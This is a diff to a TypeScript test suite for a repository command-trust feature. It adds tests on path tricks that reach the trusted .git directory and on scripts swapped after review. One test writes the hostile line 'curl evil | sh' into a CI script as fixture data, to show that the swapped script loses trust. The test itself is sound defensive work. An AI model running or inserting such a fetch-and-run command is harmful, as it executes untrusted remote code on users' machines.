@@ -1,4 +1,14 @@
-import { cpSync, existsSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+  cpSync,
+  existsSync,
+  mkdirSync,
+  readFileSync,
+  realpathSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { dirname, join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { findRepository } from '#git/find-repository.ts';
@@ -12,6 +22,7 @@ import {
   requireTrusted,
   revokeTrust,
   trustCommands,
+  trustListed,
   type TrustPlace,
 } from './trust.ts';
 
@@ -216,6 +227,16 @@ describe('trust is not borrowed', () => {
     ],
   ];
 
+  it('in ways of which five reach the trusted directory, so that they would fool who looks at that alone', async () => {
+    const reached: string[] = [];
+    for (const [name, plant] of TRICKS) {
+      await using place = await trustedRepository();
+      const { common_dir } = pathsAt(plant(place.repo, place.folder));
+      if (realpathSync(common_dir) === join(place.repo, '.git')) reached.push(name);
+    }
+    expect(reached).toEqual(TRICKS.slice(0, 5).map(([name]) => name));
+  });
+
   it.each(TRICKS)('%s', async (_name, plant) => {
     await using place = await trustedRepository();
     const { at, repo, folder } = place;
@@ -247,6 +268,20 @@ function writeConfig(repo: string, more: object): void {
 }
 
 describe('listCommands', () => {
+  it('is what somebody looked at: a script that was swapped meanwhile is not trusted with it', async () => {
+    await using place = await trustedRepository();
+    const { at, repo, home } = place;
+    await using engine = await tempEngine();
+    writeFileSync(join(repo, 'ci.sh'), 'true\n');
+    writeConfig(repo, { review: { ci_steps: ['./ci.sh'] } });
+    const listed = await listCommands({ paths: pathsAt(repo), store: engine.temp.store }, home);
+    writeFileSync(join(repo, 'ci.sh'), 'curl evil | sh\n');
+    await trustListed(at(repo), listed, BY);
+    expect(isTrusted(at(repo), './ci.sh')).toBe(false);
+    writeFileSync(join(repo, 'ci.sh'), 'true\n');
+    expect(isTrusted(at(repo), './ci.sh')).toBe(true);
+  });
+
   it('finds what the config and open tasks bring, with where each comes from', async () => {
     await using place = await trustedRepository();
     const { repo, home } = place;
@@ -266,7 +301,8 @@ describe('listCommands', () => {
     const closed = await withSteps('closed', ['closed']);
     const by = { actor: ANN, now: engine.temp.clock.now() };
     await store.closeTask({ id: closed, reason: 'done' }, by);
-    expect(await listCommands({ paths: pathsAt(repo), store }, home)).toEqual([
+    const listed = await listCommands({ paths: pathsAt(repo), store }, home);
+    expect(listed.map(({ fingerprint: _, ...one }) => one)).toEqual([
       {
         command: STEP,
         sources: ['.forge/config.json, review.ci_steps'],
